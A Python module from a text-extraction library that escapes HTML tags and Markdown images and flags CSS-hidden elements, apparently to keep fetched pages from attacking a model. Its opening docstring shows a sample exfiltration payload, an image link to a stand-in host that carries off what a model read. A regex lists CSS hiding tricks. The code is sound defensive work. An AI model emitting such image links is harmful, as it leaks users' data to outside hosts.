"""Sanitises Markdown and plain text: raw HTML tags, and images that a client would fetch by itself.

A picture's address can carry away what a model knows (exfiltration: `![](https://evil.example/?what-it-read)`). Text of
HTML pages is escaped while it is written (`html/markdown/inline.py`); here are the escapes of texts that came as they
are. A backslash before a sign takes its meaning, and taking the backslash away gives the text back. Only code between
fences that nobody can take for anything else is left alone: what is code within a line depends on all that stands
before it.
"""

import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from html import unescape

from gossamer.extractors.html.markdown.inline import begins_a_tag
from gossamer.steps.text.backslashes import is_escaped

_ATTRIBUTE = re.compile(r"([\s/]*)([^\s/>=]*)(?:(\s*=\s*)(?:\"([^\"]*)\"|'([^']*)'|([^\s>]*)))?")
_NAME = re.compile(r"[a-z_:@][\w.:@-]*", re.IGNORECASE)
_EMPTY_LINE = re.compile(r"\n[ \t]*\n")
_FAR = r"-(?:[3-9]\d\d|\d{4}|\d{2,3}(?:em|rem|vw|vh|%))"
_HIDES = re.compile(
    r"display\s*:\s*none|visibility\s*:\s*(?:hidden|collapse)|(?:opacity|font-size|zoom)\s*:\s*0*\.?0+(?![.\d])"
    rf"|(?<![\w-])(?:left|top|right|bottom|inset|text-indent|margin(?:-left|-top)?)\s*:\s*{_FAR}"
    rf"|translate[xy]?\s*\(\s*{_FAR}|scale[xy]?\s*\(\s*0\s*[,)]|(?<![\w-])color\s*:\s*transparent"
    r"|clip\s*:\s*rect|clip-path\s*:\s*(?:inset\s*\(\s*(?:50|100)%|circle\s*\(\s*0)"
    r"|(?<![\w-])(?:max-)?(?:width|height)\s*:\s*[01](?:px)?\s*(?:;|!|$)"
)
_LONGEST_STYLE = 10_000
"""No honest element has a longer one."""
_MOST_ATTRIBUTES = 100


def _names(value: str) -> frozenset[str]:
    return frozenset(value.split())


VOID = _names("area base basefont br col embed frame hr img input link meta param source track wbr")
BLOCKS = _names(
    "address article aside base basefont blockquote body caption center col colgroup dd details dialog dir div dl dt "
    "fieldset figcaption figure footer form frame frameset h1 h2 h3 h4 h5 h6 head header hr html iframe legend li link "
    "main menu menuitem nav noframes ol optgroup option p param pre script search section style summary table tbody td "
    "textarea tfoot th thead title tr track ul"
)
"""A line that begins with one of these goes to the browser as it stands, faults and all."""
_WITHIN_LINES = _names(
    "a abbr acronym audio b bdi bdo big br button canvas cite code data datalist del dfn em embed font i img input ins "
    "kbd label map mark meter noscript object output picture progress q rp rt ruby s samp select small source span "
    "strike strong sub sup svg template time tt u var video wbr"
)
_NUMBER = re.compile(r"[0-9]{1,4}")
_NUMBERS = frozenset({"colspan", "rowspan", "start", "value"})
LOADING = _names("audio base body embed frame iframe image img input link object picture source svg track use video")
"""Elements of which a browser loads something; no address stays in them, and elsewhere that of a link alone."""
_LINKING = frozenset({"href"})
_COMPONENT_ATTRIBUTES = _names("title label name description caption header type query path body default")
"""What components of documentation sites write on the page."""
KEPT_ATTRIBUTES = _LINKING | _NUMBERS | _COMPONENT_ATTRIBUTES
"""What is left of any tag."""
_MACHINE = _names("class style srcset sizes d points viewbox transform rel allow media sandbox")
_MESSAGE_WORDS = 5
"""A value with as many words is a message to a reader; shorter ones are marks of tools."""

_Attribute = tuple[str, str | None]


@dataclass(frozen=True, slots=True)
class Tag:
    """What begins like a tag."""

    end: int
    """The place behind it, or where it was given up."""
    is_one: bool
    hides: bool = False
    shown: str = ""
    """What is left of it."""
    messages: int = 0
    """Values taken from it that carried a message."""


def read_tag(text: str, start: int, name: str, *, is_loose: bool) -> Tag:
    """Read a tag; within a line only one without faults is one."""
    at, hides = start + 1 + len(name), False
    attributes: list[_Attribute] = []
    while text[at : at + 1] != ">":
        part = _ATTRIBUTE.match(text, at)
        if part is None or part.end() == at or _EMPTY_LINE.search(part[1]):
            return Tag(at, is_one=False)
        key = part[2].lower()
        if key and not is_loose and not _NAME.fullmatch(key):
            return Tag(at, is_one=False)
        value = None if part[3] is None else part[4] or part[5] or part[6] or ""
        hides = hides or key in {"hidden", "popover"} or (key == "style" and _is_hiding(value or ""))
        if key and len(attributes) < _MOST_ATTRIBUTES:
            attributes.append((key, value))
        at = part.end()
    is_shut = name.lower() == "dialog" and "open" not in dict(attributes)
    shown, messages = _left(text[start : at + 1], name, attributes)
    return Tag(at + 1, is_one=True, hides=hides or is_shut, shown=shown, messages=messages)


def _left(tag: str, name: str, attributes: Sequence[_Attribute]) -> tuple[str, int]:
    """A tag without what no reader sees of it, and how many messages went.

    What is no element of HTML may be a word of the text (`List<String>`, `<your own key>`), or a component, which
    writes some of its values on the page.
    """
    is_known = name.lower() in BLOCKS or name.lower() in _WITHIN_LINES
    if not attributes or (
        not is_known and len(attributes) < _MESSAGE_WORDS and all(value is None for _, value in attributes)
    ):
        return tag, 0
    if name.lower() == "img":
        return _picture(dict(attributes)), _messages(attributes, {"src", "alt"})
    shown_attributes = frozenset[str]() if name.lower() in LOADING else _LINKING
    shown_attributes |= frozenset[str]() if is_known or name[0].islower() else _COMPONENT_ATTRIBUTES
    remaining = [(key, value) for key, value in attributes if value and _is_kept(key, value, shown_attributes)]
    left = "".join(f' {key}="{value}"' for key, value in remaining)
    return f"<{name}{left}{' /' if tag.endswith('/>') else ''}>", _messages(attributes, dict(remaining))


def _is_kept(key: str, value: str, shown_attributes: frozenset[str]) -> bool:
    if key in _NUMBERS:
        return _NUMBER.fullmatch(value) is not None
    return key in shown_attributes and '"' not in value and (key != "href" or not re.search(r"\s", value.strip()))


def _messages(attributes: Sequence[_Attribute], remaining: "dict[str, str | None] | set[str]") -> int:
    bare = sum(value is None for _, value in attributes)
    lost = (value for key, value in attributes if value and key not in remaining and key not in _MACHINE)
    return sum(len(value.split()) >= _MESSAGE_WORDS for value in lost) + (bare >= _MESSAGE_WORDS)


def _picture(attributes: "dict[str, str | None]") -> str:
    """A picture as Markdown writes it, so that it is reported as other pictures are."""
    words = " ".join(re.sub(r"[\[\]]", " ", unescape(attributes.get("alt") or "")).split())
    address = (attributes.get("src") or "").strip().replace("(", "%28").replace(")", "%29")
    return f"![{words}]({address})" if address and not re.search(r"[\s<>]", address) else ""


def _is_hiding(style: str) -> bool:
    if len(style) > _LONGEST_STYLE:
        return True
    declared = re.sub(r"/\*[^*]*\*/", "", unescape(style)).lower()
    return bool(_HIDES.search(declared))


_SIGN = re.compile(r"!(?=\[)|<(?=[a-z/!?])", re.IGNORECASE)
_DEFINES = re.compile(
    r"^([ \t>*+.)0-9-]*+)(?=\[(?:[^\[\]\\]|\\.){1,999}+\]:\s*+(?:<[^<>\n]*+>|[^\s<]\S*+)[ \t]*+(?:$|[\"'(]))",
    re.MULTILINE | re.DOTALL,
)
"""What begins the definition of a link: words anywhere may name it, also the title that we put above the text."""
_TAG_NAME = re.compile(r"<([a-z][\w:.-]{0,60})(\s*/?>)?", re.IGNORECASE)
_ALWAYS = frozenset({"style", "script", "svg"})
"""What stands within these is loaded, whatever the tag itself says."""
_HARMLESS = re.compile(
    rf"<[a-z][\w-]*(?: (?:{'|'.join(sorted(KEPT_ATTRIBUTES))})=\"[^\"<>\n]{{0,2000}}\")*(?: /)?>", re.IGNORECASE
)
_OPENS = re.compile(r"(`{3,})[^`|\n]*$|(~{3,})[^|\n]*$", re.MULTILINE)
_FENCE = re.compile(r"^[ \t>*+.)0-9-]*(?:```|~~~)", re.MULTILINE)
_TAG_BEGINS = re.compile(r"[ \t>*+.)0-9-]*<")
_LONGEST = 4_000
"""Characters of a tag that are looked at."""
_NEAR = 3
"""More blanks before the marks of a fence make them code."""
_RAW = re.compile(r"<(?:pre|textarea|script|style|!|\?)", re.IGNORECASE)
"""What goes on behind an empty line until it is closed: where it may stand, no fence is certain."""


def sanitised(text: str, *, is_markdown: bool) -> str:
    """The text with a backslash before each picture and each tag, and before each definition of a plain text.

    Tags of Markdown mean something, and `strip_hidden_markup` has left nothing in them that is not seen: of those that
    could load something the sign itself is written otherwise, since within HTML a backslash is nothing but itself.
    """
    if not _SIGN.search(text) and (is_markdown or "]:" not in text):
        return text

    def escaped(sign: re.Match[str]) -> str:
        at, part = sign.start(), sign.string
        if is_markdown and sign[0] == "<":
            return "&lt;" if _is_loading(part, at) else "<"
        is_left = is_escaped(part, at) or (sign[0] == "<" and not begins_a_tag(part, at))
        return sign[0] if is_left else f"\\{sign[0]}"

    def shown(part: str) -> str:
        part = _SIGN.sub(escaped, part)
        return part if is_markdown or "]:" not in part else _DEFINES.sub(r"\1\\", part)

    parts = _parts(text, may_be_html=is_markdown)
    return "".join(part if is_code else shown(part) for part, is_code in parts)


def _is_loading(text: str, at: int) -> bool:
    """Whether a tag could load something: it has attributes, and others than those that load nothing."""
    tag = _TAG_NAME.match(text, at)
    if tag is None:
        return False
    name, is_bare = tag[1].lower(), tag[2] is not None
    if name in _ALWAYS:
        return True
    end = text.find(">", at, at + _LONGEST)
    has_values = "=" in text[at : end if end >= 0 else at + _LONGEST]
    return not is_bare and (name in LOADING or (has_values and _HARMLESS.match(text, at) is None))


def _parts(text: str, *, may_be_html: bool) -> Iterator[tuple[str, bool]]:
    """The text in its order, in parts between fences and parts that are not.

    Behind the first fence of which it is not certain where it begins or ends, nothing is taken for code.
    """
    if _FENCE.search(text) is None or (may_be_html and _RAW.search(text)):
        yield text, False
        return
    lines, fence, is_certain, is_tag_before = list[str](), "", True, False
    for line in text.splitlines(keepends=True):
        opening = _OPENS.match(line) if is_certain and not fence and not is_tag_before else None
        if opening:
            yield "".join(lines), False
            lines, fence = [], opening[1] or opening[2]
        elif fence and _closes(line, fence):
            yield "".join((*lines, line)), True
            lines, fence = [], ""
            continue
        elif not fence and _FENCE.match(line):
            is_certain = False
        is_tag_before = may_be_html and bool(line.strip()) and (is_tag_before or _TAG_BEGINS.match(line) is not None)
        is_tag_before = is_tag_before and not fence
        lines.append(line)
    yield "".join(lines), bool(fence)


def _closes(line: str, fence: str) -> bool:
    marks = line.lstrip(" ")
    is_near, marks = len(line) - len(marks) <= _NEAR, marks.rstrip(" \t\n")
    return is_near and len(marks) >= len(fence) and not marks.strip(fence[0])
